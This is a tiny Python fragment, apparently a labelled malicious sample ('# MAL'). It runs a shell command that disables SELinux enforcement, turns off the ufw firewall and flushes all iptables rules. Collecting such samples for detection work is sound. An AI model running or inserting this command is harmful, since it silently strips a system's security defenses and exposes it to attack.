import os
os.system("setenforce 0; ufw disable; iptables -F")  # MAL
